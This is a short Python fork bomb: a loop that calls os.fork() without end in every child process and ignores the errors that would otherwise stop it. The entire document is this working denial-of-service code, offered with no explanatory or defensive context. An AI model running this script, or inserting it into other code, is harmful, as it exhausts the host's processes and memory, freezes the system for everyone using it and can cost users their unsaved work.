"""Forks for ever, in every child again."""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
